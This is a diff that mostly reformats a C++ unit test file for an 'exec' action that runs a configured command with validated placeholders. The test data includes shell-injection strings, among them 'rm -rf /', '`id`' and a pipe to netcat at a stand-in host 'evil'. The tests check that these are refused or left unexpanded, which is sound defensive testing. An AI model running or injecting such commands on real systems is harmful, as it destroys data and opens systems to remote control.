@@ -33,8 +33,12 @@ std::string argv_recorder(const test::TempDir& dir) {
 }
 
 Fields sample_fields(std::string service = "checkout-api") {
-  return {{"fingerprint_id", "fp_abc123"}, {"service", std::move(service)}, {"strategy", "restart"},
-          {"target", "checkout-api"},      {"action", "exec"},               {"level", ""},
+  return {{"fingerprint_id", "fp_abc123"},
+          {"service", std::move(service)},
+          {"strategy", "restart"},
+          {"target", "checkout-api"},
+          {"action", "exec"},
+          {"level", ""},
           {"template", "error $(rm -rf /); `id` | nc evil 1 & <*>"}};
 }
 
@@ -75,7 +79,13 @@ struct Receiver {
 TEST_CASE("exec runs exactly the configured argv with validated placeholders") {
   test::TempDir dir;
   ExecSpec spec;
-  spec.argv = {argv_recorder(dir), dir.file("argv.txt"), "3", "restart", "{service}", "--id", "{fingerprint_id}",
+  spec.argv = {argv_recorder(dir),
+               dir.file("argv.txt"),
+               "3",
+               "restart",
+               "{service}",
+               "--id",
+               "{fingerprint_id}",
                "literal with spaces; $(not expanded)"};
   auto r = run_exec(spec, sample_fields());
   REQUIRE(r);
@@ -83,8 +93,8 @@ TEST_CASE("exec runs exactly the configured argv with validated placeholders") {
   CHECK(r->code == 3);
   CHECK(r->output == "recorded\n");
   CHECK(test::read_file(dir.file("argv.txt")) == dir.file("argv.txt") +
-                                                      "\n3\nrestart\ncheckout-api\n--id\nfp_abc123\nliteral with "
-                                                      "spaces; $(not expanded)\n");
+                                                     "\n3\nrestart\ncheckout-api\n--id\nfp_abc123\nliteral with "
+                                                     "spaces; $(not expanded)\n");
   spec.argv[2] = "0";
   r = run_exec(spec, sample_fields());
   REQUIRE(r);
@@ -96,7 +106,8 @@ TEST_CASE("exec refuses unsafe field values and log-text fields, running nothing
   test::TempDir dir;
   ExecSpec spec;
   spec.argv = {argv_recorder(dir), dir.file("argv.txt"), "0", "{service}"};
-  for (const std::string& bad : std::vector<std::string>{"a;b", "$(touch x)", "`id`", "a b", "", "x|y", std::string(200, 'a'), "../..\n"}) {
+  for (const std::string& bad :
+       std::vector<std::string>{"a;b", "$(touch x)", "`id`", "a b", "", "x|y", std::string(200, 'a'), "../..\n"}) {
     CAPTURE(bad);
     auto r = run_exec(spec, sample_fields(bad));
     REQUIRE_FALSE(r);
@@ -163,8 +174,9 @@ TEST_CASE("exec stops a running command when asked to stop") {
 TEST_CASE("exec bounds the captured output and reports a missing binary") {
   test::TempDir dir;
   const std::string script = dir.file("loud.sh");
-  test::write_file(script, "#!/bin/sh\ni=0\nwhile [ $i -lt 2000 ]; do echo 0123456789012345678901234567890123456789; "
-                           "i=$((i+1)); done\necho err >&2\n");
+  test::write_file(script,
+                   "#!/bin/sh\ni=0\nwhile [ $i -lt 2000 ]; do echo 0123456789012345678901234567890123456789; "
+                   "i=$((i+1)); done\necho err >&2\n");
   ::chmod(script.c_str(), 0755);
   ExecSpec spec;
   spec.argv = {script};
